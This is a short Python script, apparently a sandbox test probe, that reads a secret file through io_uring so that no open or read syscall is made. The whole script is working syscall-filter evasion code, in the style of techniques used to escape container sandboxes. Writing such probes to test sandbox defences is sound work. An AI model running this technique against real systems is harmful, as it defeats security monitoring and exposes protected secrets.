# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Let io_uring open and read the file, so that no open or read call is made.

Known from container sandboxes whose filters saw none of it (2022 onwards).
"""

# act: read
# needs: root

import ctypes
import mmap
import struct

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int,
                      ctypes.c_long)
SETUP, ENTER = 425, 426
parameters = ctypes.create_string_buffer(120)
ring = libc.syscall(SETUP, 4, parameters)
if ring < 0:
    raise OSError(ctypes.get_errno(), 'io_uring_setup')
sq = struct.unpack_from('<10I', parameters.raw, 40)
cq = struct.unpack_from('<10I', parameters.raw, 80)
shared = libc.mmap(None, 65536, 3, mmap.MAP_SHARED, ring, 0)
entries = libc.mmap(None, 4096, 3, mmap.MAP_SHARED, ring, 0x10000000)


def word(offset):
    return ctypes.c_uint32.from_address(shared + offset)


def submit(opcode, fd, address, length, offset, flags):
    entry = struct.pack('<BBHiQQII', opcode, 0, 0, fd, offset, address, length, flags)
    ctypes.memset(entries, 0, 64)
    ctypes.memmove(entries, entry, len(entry))
    word(sq[6]).value = 0
    word(sq[1]).value += 1
    libc.syscall(ENTER, ring, 1, 1, 1, None, 0)
    head = word(cq[0]).value
    word(cq[0]).value = head + 1
    slot = shared + cq[5] + 16 * (head & (word(cq[2]).value))
    return ctypes.c_int32.from_address(slot + 8).value


path = ctypes.create_string_buffer(SECRET_FILE.encode())
buffer = ctypes.create_string_buffer(4096)
IORING_OP_OPENAT, IORING_OP_READ = 18, 22
fd = submit(IORING_OP_OPENAT, -100, ctypes.addressof(path), 0, 0, 0)
count = submit(IORING_OP_READ, fd, ctypes.addressof(buffer), 4096, 0, 0)
print(fd, count, buffer.raw[:max(0, count)])
